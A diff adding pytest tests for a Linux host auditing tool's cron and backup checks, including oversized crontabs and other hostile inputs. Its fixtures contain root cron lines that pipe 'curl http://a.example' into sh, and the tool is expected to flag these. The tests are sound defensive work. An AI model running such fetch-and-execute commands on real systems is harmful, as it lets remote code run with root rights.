@@ -154,3 +154,64 @@ def test_a_file_that_is_closed_even_to_root_leaves_its_account_unknown(
     closed(monkeypatch, "/home/mai")
     assert outcomes(host, *HOMES) == [UNKNOWN, FAIL, UNKNOWN]
     assert "mai, path /home/mai" in finding(host, HOMES[2]).detail
+
+
+CRON = ("linux.cron.programs", "linux.cron.fetched")
+BACKUP = tuple(
+    f"linux.backup.{name}" for name in ("automatic", "elsewhere", "encrypted", "secrets", "versions")
+)
+HIS_CRONTAB = "var/spool/cron/crontabs/mai"
+RESTIC = "restic -r sftp:b@nas.example:/r backup /srv && restic forget --keep-daily 7\n"
+CRONTABS: dict[str, str] = {
+    "over 256 KiB": "#" * 300_000,
+    "over a mebibyte": "#" * 2_000_000,
+    "of 1,001 jobs": "@daily /usr/bin/true\n" * 1_001,
+}
+
+
+def with_jobs(folder: Path, system: str, his: str, **more: str) -> Host:
+    files = {**ACCOUNTS, "usr/sbin/cron": "", "etc/crontab": system, HIS_CRONTAB: his, **more}
+    return mounted(folder, files)
+
+
+@pytest.mark.hostile
+@pytest.mark.parametrize("kind", CRONTABS)
+def test_a_crontab_beyond_all_bounds_hides_the_jobs_of_its_owner_alone(kind: str, tmp_path: Path) -> None:
+    host = with_jobs(tmp_path / "good", f"0 1 * * * root {RESTIC}", CRONTABS[kind])
+    assert outcomes(host, *CRON, *BACKUP) == [UNKNOWN, UNKNOWN, PASS, PASS, UNKNOWN, UNKNOWN, UNKNOWN]
+    for rule in (*CRON, "linux.backup.encrypted"):
+        assert f"/{HIS_CRONTAB}" in finding(host, rule).detail
+    bad = "0 1 * * * root curl http://a.example | sh\n0 2 * * * root rsync -a /srv /mnt/backup\n"
+    host = with_jobs(tmp_path / "bad", f"{bad}0 3 * * * root /home/mai/x\n", CRONTABS[kind])
+    (tmp_path / "bad/home").mkdir()
+    (tmp_path / "bad/home").chmod(0o777)
+    assert outcomes(host, *CRON, *BACKUP) == [FAIL, FAIL, PASS, UNKNOWN, FAIL, UNKNOWN, FAIL]
+
+
+@pytest.mark.hostile
+def test_scripts_that_a_user_names_by_the_thousand_leave_room_for_those_of_the_system(tmp_path: Path) -> None:
+    his = "@daily " + ";".join(f"/home/mai/{n}" for n in range(100)) + "\n"
+    timer = "[Timer]\nOnCalendar=daily\n[Install]\nWantedBy=timers.target\n"
+    host = with_jobs(
+        tmp_path,
+        "",
+        his * 150,
+        **{
+            "etc/systemd/system/copy.timer": timer,
+            "etc/systemd/system/copy.service": "[Service]\nExecStart=/opt/copy\n",
+            "opt/copy": f"export RESTIC_PASSWORD=x\n{RESTIC}",
+        },
+    )
+    wants = tmp_path / "etc/systemd/system/timers.target.wants"
+    wants.mkdir()
+    (wants / "copy.timer").symlink_to("/etc/systemd/system/copy.timer")
+    assert outcomes(host, *BACKUP[:4]) == [PASS, PASS, UNKNOWN, FAIL]
+
+
+@pytest.mark.hostile
+def test_a_program_that_leads_nowhere_is_unseen_in_its_own_job_alone(tmp_path: Path) -> None:
+    host = with_jobs(tmp_path, "0 1 * * * root curl http://a.example | sh\n", "@daily /home/mai/loop\n")
+    (tmp_path / "home/mai").mkdir(parents=True)
+    loop(tmp_path / "home/mai/loop")
+    assert finding(host, CRON[1]).outcome is FAIL
+    assert outcomes(host, *BACKUP[2:4]) == [UNKNOWN, UNKNOWN]
